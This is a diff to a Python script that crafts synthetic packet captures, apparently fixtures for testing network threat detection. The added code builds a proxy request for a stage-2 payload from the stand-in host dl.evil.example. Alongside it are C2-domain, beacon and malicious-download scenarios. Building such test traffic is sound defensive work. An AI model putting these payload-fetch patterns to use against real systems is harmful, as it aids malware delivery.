@@ -11,6 +11,9 @@ usage: intel-craft.py OUTDIR
                         203.0.113.200 (outside) connects to 192.168.1.21:22
   intel-download.pcap   192.168.1.30 downloads /invoice.exe from
                         198.51.100.90; the body is BODY below
+  intel-proxy.pcap      192.168.1.40 asks the proxy 192.168.1.1:3128 for
+                        http://dl.evil.example/payload/stage2.exe (an
+                        absolute URI, as clients send to a proxy)
 
 Every frame is Ethernet/IPv4 with correct IP, TCP and UDP checksums; TCP
 connections have a full handshake and close. Times start at
@@ -157,6 +160,15 @@ def download(path):
     p.close()
 
 
+def proxy(path):
+    p = Pcap(path)
+    req = (b"GET http://dl.evil.example/payload/stage2.exe HTTP/1.1\r\n"
+           b"Host: dl.evil.example\r\nUser-Agent: test-agent\r\nAccept: */*\r\n\r\n")
+    session(p, T0, "192.168.1.40", 52000, "192.168.1.1", 3128, req,
+            http_response(b"denied\n", b"text/plain"))
+    p.close()
+
+
 if __name__ == "__main__":
     if len(sys.argv) == 2 and sys.argv[1] == "--body-sha256":
         import hashlib
@@ -166,3 +178,4 @@ if __name__ == "__main__":
     c2_domain(out + "/intel-c2-domain.pcap")
     beacon(out + "/intel-beacon.pcap")
     download(out + "/intel-download.pcap")
+    proxy(out + "/intel-proxy.pcap")
